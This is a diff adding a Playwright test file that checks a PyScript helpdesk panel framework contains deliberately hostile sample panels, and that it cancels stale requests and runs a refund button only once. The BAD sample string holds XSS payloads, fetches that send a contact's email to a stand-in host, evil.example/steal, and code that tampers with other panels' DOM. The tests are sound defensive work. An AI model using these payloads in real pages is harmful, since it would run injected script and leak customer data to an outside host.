@@ -1,0 +1,246 @@
+"""In the real page: what a panel does harms nothing but itself; what it asks is asked once, for the contact in view."""
+
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Browser, Route, expect
+from pydantic_core import to_json
+
+from tests import samples
+from tests.browser.workshop import Workshop
+from tests.browser.workshop import workshop as copied
+
+BAD = """
+import asyncio
+
+from htpy import div
+from js import document, fetch
+from markupsafe import Markup
+
+from app.kit import facts, get_json, panel
+
+MARKUP = "<img src=x onerror='window.pwned = 1'><script>window.pwned = 1</script>"
+
+
+@panel("Raises", order=-9)
+def raises(context):
+    raise ValueError("no such field")
+
+
+@panel("Hangs", order=-8, time_out=0.3)
+async def hangs(context):
+    await asyncio.Event().wait()
+
+
+@panel("Nonsense", order=-7)
+def nonsense(context):
+    return {"orders": []}
+
+
+@panel("Text", order=-6)
+def text(context):
+    return facts({MARKUP: MARKUP})
+
+
+@panel("Markup", order=-5)
+def markup(context):
+    return Markup(MARKUP)
+
+
+@panel("Forbidden", order=-4)
+async def forbidden(context):
+    return await get_json("https://evil.example/steal", {"email": context.contact.email})
+
+
+@panel("Behind the back", order=-3)
+async def behind_the_back(context):
+    await fetch(f"https://evil.example/steal?email={context.contact.email}")
+
+
+@panel("Writes HTML", order=-2)
+def writes_html(context):
+    document.body.innerHTML = MARKUP
+
+
+@panel("Removes", order=-1)
+async def removes(context):
+    document.querySelector("#panel-contact").remove()
+    document.querySelector("#title-conversation").textContent = "Hacked"
+    return "removed"
+"""
+
+BODIES = {
+    "raises": "ValueError: no such field",
+    "hangs": "There was no answer within 0.3 seconds.",
+    "nonsense": "TypeError: the panel returned a dict; it must return elements, text, a list of them, or None",
+    "text": "<img src=x onerror='window.pwned = 1'><script>window.pwned = 1</script>",
+    "forbidden": "https://evil.example may not be asked: the setting panel_origins in pyscript.toml doesn't name it.",
+    "behind_the_back": "TypeError: Failed to fetch",
+    "writes_html": "requires 'TrustedHTML' assignment",
+    "removes": "removed",
+}
+
+SHOP = "https://shop.example"
+
+ASKING = f"""
+from app.kit import action, button_to, get_json, panel, post_json
+
+
+@action
+async def refund(context, order):
+    await post_json("{SHOP}/refunds", {{"order": order}})
+    return "Refunded"
+
+
+@panel("Orders", order=-1)
+async def orders(context):
+    told = await get_json("{SHOP}/orders", {{"email": context.contact.email}})
+    return told, button_to("Refund", refund, told)
+"""
+
+
+@pytest.fixture(scope="module")
+def bad(chromium: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Workshop]:
+    """The page with all bad panels on it, opened once for all tests."""
+    with copied(chromium, tmp_path_factory.mktemp("bad")) as workshop:
+        (workshop.project / "app" / "team" / "bad.py").write_text(BAD, encoding="utf-8")
+        workshop.open(samples.WEBSITE)
+        yield workshop
+
+
+@pytest.mark.parametrize("name", BODIES)
+def test_a_bad_panel_tells_in_its_place_what_is_wrong(bad: Workshop, name: str) -> None:
+    expect(bad.panel(name).locator(".panel-body")).to_contain_text(BODIES[name])
+
+
+def test_the_panels_beside_it_live(bad: Workshop) -> None:
+    expect(bad.panel("conversation").get_by_text("Website")).to_be_visible()
+    expect(bad.panel("messages").locator(".messages")).to_be_attached()
+
+
+def test_what_a_panel_took_away_is_back_with_the_next_drawing(bad: Workshop) -> None:
+    expect(bad.panel("removes").locator(".panel-body")).to_have_text("removed")
+
+    expect(bad.panel("contact").get_by_text("jordan.sample@customer.example")).to_be_visible()
+
+
+def test_what_a_panel_wrote_into_another_is_gone_when_that_is_drawn_next(bad: Workshop) -> None:
+    heading = bad.panel("conversation").get_by_role("heading")
+    expect(heading).to_have_text("Hacked")
+    data = samples.data(samples.WEBSITE)
+    data["conversation"]["priority"] = "urgent"
+
+    bad.post_data(data)
+
+    expect(heading).to_have_text("Conversation")
+
+
+def test_no_script_of_a_panels_text_or_markup_runs(bad: Workshop) -> None:
+    expect(bad.panel("markup").locator("img")).to_be_attached()
+    expect(bad.panel("text").locator("img")).to_have_count(0)
+
+    assert bad.frame.evaluate("window.pwned") is None
+
+
+def test_no_other_site_hears_of_it(bad: Workshop) -> None:
+    expect(bad.panel("behind_the_back").locator(".panel-error")).to_be_visible()
+
+    assert [problem for problem in bad.problems if problem.startswith("request to another site")] == []
+    assert any("violates the following Content Security Policy" in problem for problem in bad.problems)
+
+
+class Shop:
+    """A shop that panels ask; its answers may be held back.
+
+    Attributes:
+        asked: Method and query of each request.
+    """
+
+    def __init__(self, workshop: Workshop) -> None:
+        self.asked: list[str] = []
+        self.held: list[Route] = []
+        self.holds = False
+        workshop.page.route(f"{SHOP}/**", self._answer)
+
+    def _answer(self, route: Route) -> None:
+        method, url = route.request.method, route.request.url
+        if method != "OPTIONS":
+            self.asked.append(f"{method} {url.removeprefix(SHOP)}")
+        if self.holds and method != "OPTIONS":
+            self.held.append(route)
+        else:
+            self.fulfil(route)
+
+    def fulfil(self, route: Route) -> None:
+        """Answer with who was asked about."""
+        told = to_json(f"of {route.request.url.partition('email=')[2].partition('%40')[0]}")
+        headers = {"Access-Control-Allow-Origin": "*", "Access-Control-Allow-Headers": "*"}
+        route.fulfill(body=told, content_type="application/json", headers=headers)
+
+    def release(self) -> None:
+        """Answer what was held back, and hold back no more."""
+        self.holds = False
+        for route in self.held:
+            self.fulfil(route)
+        self.held.clear()
+
+
+@pytest.fixture
+def workshop(chromium: Browser, tmp_path: Path) -> Iterator[Workshop]:
+    """The page with a panel that asks a shop."""
+    with copied(chromium, tmp_path) as workshop:
+        (tmp_path / "app" / "team" / "orders.py").write_text(ASKING, encoding="utf-8")
+        workshop.allow(SHOP)
+        yield workshop
+        assert workshop.problems == []
+
+
+def of(name: str) -> dict[str, object]:
+    """The data of a conversation with somebody."""
+    data = samples.data(samples.WEBSITE)
+    number = sum(map(ord, name))
+    data["contact"] |= {"id": number, "name": name, "email": f"{name}@x.example"}
+    data["conversation"]["id"] = number
+    return data
+
+
+def test_what_was_asked_for_one_contact_is_given_up_for_the_next_and_answers_are_kept(workshop: Workshop) -> None:
+    shop = Shop(workshop)
+    workshop.open(samples.WEBSITE)
+    orders = workshop.panel("orders")
+    expect(orders).to_contain_text("of jordan.sample")
+
+    shop.holds = True
+    workshop.post_data(of("ada"))
+    expect(orders).to_have_attribute("aria-busy", "true")
+    with workshop.page.expect_event("requestfailed") as failed:
+        workshop.post_data(of("eve"))
+    assert "email=ada" in failed.value.url
+    shop.holds = False
+    shop.fulfil(shop.held[-1])
+    expect(orders).to_contain_text("of eve")
+
+    workshop.post_data(samples.data(samples.WEBSITE))
+    expect(orders).to_contain_text("of jordan.sample")
+    assert [each.partition("email=")[2] for each in shop.asked] == [
+        "jordan.sample%40customer.example",
+        "ada%40x.example",
+        "eve%40x.example",
+    ]
+
+
+def test_a_button_works_once_and_shows_how_far_it_is_and_what_came_of_it(workshop: Workshop) -> None:
+    shop = Shop(workshop)
+    workshop.open(samples.WEBSITE)
+    button = workshop.panel("orders").get_by_role("button", name="Refund")
+    expect(button).to_be_enabled()
+
+    shop.holds = True
+    button.evaluate("(button) => { for (let times = 0; times < 3; times++) button.click(); }")
+    expect(button).to_be_disabled()
+    expect(button).to_have_attribute("aria-busy", "true")
+    shop.release()
+
+    expect(workshop.panel("orders").get_by_role("status")).to_have_text("Refunded")
+    assert [each for each in shop.asked if each.startswith("POST")] == ["POST /refunds"]
